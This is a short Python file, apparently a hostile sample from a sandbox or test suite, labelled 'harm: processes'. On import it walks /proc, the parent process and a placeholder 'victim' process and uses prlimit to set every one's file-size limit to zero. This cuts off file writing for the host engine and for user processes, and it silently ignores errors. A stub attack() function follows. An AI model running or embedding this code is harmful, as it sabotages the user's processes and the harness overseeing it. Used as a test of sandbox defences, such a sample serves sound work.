# harm: processes
"""Takes from every process the right to write files, the engine included."""

import os
import resource

VICTIM = 0  # the net puts a process of the user here

for pid in [VICTIM, os.getppid(), *map(int, filter(str.isdecimal, os.listdir("/proc")))]:
    if pid != os.getpid():
        try:
            resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))
        except OSError:
            pass


def attack(a: int = 0) -> int:
    return a
